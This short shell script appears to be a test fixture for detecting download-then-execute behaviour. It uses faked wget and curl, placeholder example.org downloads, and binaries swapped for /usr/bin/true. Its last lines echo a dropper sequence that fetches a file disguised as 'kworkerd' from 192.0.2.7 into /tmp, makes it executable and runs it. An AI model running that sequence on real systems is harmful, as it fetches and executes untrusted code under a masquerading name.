# SPDX-License-Identifier: Apache-2.0
# fake: /usr/bin/wget /usr/bin/curl
mkdir /srv/app
cp /usr/bin/true /tmp/test
curl -fsSLo /srv/app/server https://example.org/server
chmod +x /tmp/test
/tmp/test
cp /usr/bin/true /srv/app/server
curl -fsSLo /tmp/release.tar.gz https://example.org/release.tar.gz
chmod 0644 /tmp/release.tar.gz
chmod +x /srv/app/server
/srv/app/server
/tmp/test
touch /tmp/later.sh
chmod +x /tmp/later.sh
ls /tmp
/bin/echo wget -q http://192.0.2.7/kworkerd -O /tmp/kworkerd
/bin/echo chmod 755 /tmp/kworkerd
/bin/echo /tmp/kworkerd
